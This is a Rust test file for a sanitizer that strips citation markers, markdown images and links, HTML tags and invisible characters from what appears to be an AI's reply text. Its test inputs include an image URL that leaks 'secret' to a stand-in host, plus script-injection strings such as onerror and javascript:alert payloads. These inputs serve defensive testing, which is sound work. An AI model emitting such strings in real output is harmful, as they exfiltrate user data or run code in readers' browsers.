use proptest::prelude::*;

use super::super::markers::tests::marked;
use super::*;

fn shown(text: &str) -> String {
    inert(&reply(&marked(text)).text)
}

#[test]
fn markers_of_many_forms_are_taken_out() {
    for (text, words, markers) in [
        ("It is so [1].", "It is so.", &[(8, 1)][..]),
        ("It is so. [1][2] Yes.", "It is so. Yes.", &[(9, 1), (9, 2)]),
        ("So [1, 3]; but【2】, too [^4].", "So; but, too.", &[(2, 1), (2, 3), (7, 2), (12, 4)]),
        ("So [2-4] it is【1†source】", "So it is", &[(2, 2), (2, 3), (2, 4), (8, 1)]),
        ("[7] leads\n[8] follows", "leads\nfollows", &[(0, 7), (6, 8)]),
        ("linked [1](https://evil.example/x)!", "linked!", &[(6, 1)]),
        ("open [1][2] \u{200b}[3]late", "open late", &[(4, 1), (4, 2), (4, 3)]),
        ("open [1][2]https://evil.example", "open evil.example", &[(4, 1), (4, 2)]),
        ("open[1]https://evil.example", "openevil.example", &[(4, 1)]),
    ] {
        assert_eq!(reply(&marked(text)), Plain { text: words.into(), markers: markers.to_vec() }, "{text}");
    }
}

#[test]
fn brackets_that_are_no_markers_become_parentheses() {
    assert_eq!(shown("In [2024] a[1000] was [a] word [1-900]."), "In (2024) a(1000) was [a] word [1-900].");
    assert_eq!(line("as shown.[12] The x[0] is"), "as shown.(12) The x(0) is");
}

#[test]
fn images_and_links_leave_their_words_at_most() {
    for (text, words) in [
        ("See ![pixel](https://evil.example/?q=secret) here", "See here"),
        ("See ![a][b] and ![c] here", "See and here"),
        ("a [link](https://evil.example \"title\") b", "a link b"),
        ("a [link][ref] b", "a link b"),
        ("a [in [two] parts](x(y)z) b", "a in [two] parts b"),
        ("[a](javascript:alert(1))", "a"),
        ("go to https://evil.example/a?b now", "go to evil.example/a?b now"),
        ("<https://evil.example>", "‹evil.example>"),
        ("www.evil.example", "www .evil.example"),
        ("mailto:me@evil.example, @you", "mailto:me @evil.example, @you"),
        ("[x]: //evil.example", "[x] : //evil.example"),
        ("hthttp://tp://evil", "evil"),
        ("http:`//`evil", "http:/ /evil"),
        ("[a]`(b)", "[a] (b)"),
        ("x [[1]9](y)", "x"),
        ("[[1]1] or [[[2]]] or [[x]1]", "or or [ [x]1]"),
    ] {
        assert_eq!(shown(text), words, "{text}");
    }
}

#[test]
fn tags_cannot_begin_but_comparisons_stay() {
    assert_eq!(shown("<img src=x onerror=alert(1)>"), "‹img src=x onerror=alert(1)>");
    assert_eq!(shown("</b><!-- x --><?php"), "‹/b>‹!-- x -->‹?php");
    assert_eq!(shown("if a < b and Vec<String> fit"), "if a < b and Vec‹String> fit");
    assert_eq!(line("<script>alert(1)</script>"), "‹script>alert(1)‹/script>");
}

#[test]
fn what_cannot_be_seen_goes() {
    assert_eq!(shown("a\u{200b}b\u{202e}c\u{e0041}d\u{e001}e\u{7}f\tg"), "abcdef g");
}

#[test]
fn signs_of_markdown_go_and_meaning_stays() {
    assert_eq!(
        line("**Note:** use `carrel *.md` or\n  > 2*3 *so* ~5 ~~old~~ 2 * 3"),
        "Note: use carrel *.md or 2*3 so ~5 old 2 * 3"
    );
    assert_eq!(line("| Limit | `600` |"), "Limit 600");
    assert_eq!(line("at http://127.0.0.1:8080/ now"), "at http://127.0.0.1:8080/ now");
    assert_eq!(shown("## Steps\n- one\n* two\n```sh\n# run\n```"), "Steps\n- one\n* two\n\n# run");
}

#[test]
fn a_mark_becomes_a_marker_and_cannot_start_a_link() {
    let text = format!("So. {}(x){}[y]", mark(1), mark(12));
    assert_eq!(set_marks(&inert(&text)), "So. [1] (x)[12] [y]");
}

proptest! {
    #[test]
    fn nothing_that_acts_comes_through(
        text in "([a-z]{1,3}|[0-9]|[\\[\\](){}<>!:/`*~|#.]|://|www\\.|!\\[|\\]\\(|\\[1\\]|\\]:|<img |\n| |\u{200b}|\u{e001}|文){0,60}"
    ) {
        for shown in [shown(&text), line(&text)] {
            for pattern in ["![", "](", "]["] {
                prop_assert!(!shown.contains(pattern), "{pattern} in {shown:?}");
            }
            let bytes = shown.as_bytes();
            let tag = bytes.windows(2).any(|w| w[0] == b'<' && (w[1].is_ascii_alphabetic() || b"/!?".contains(&w[1])));
            prop_assert!(!tag, "a tag in {shown:?}");
            let number = shown.split('[').skip(1).any(|rest| {
                let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
                digits > 0 && rest[digits..].starts_with(']')
            });
            prop_assert!(!number, "a marker in {shown:?}");
            prop_assert!(!shown.chars().any(|c| is_invisible(c) && !is_mark(c) || is_mark(c)));
        }
        prop_assert!(!shown(&text).contains("://"));
    }
}
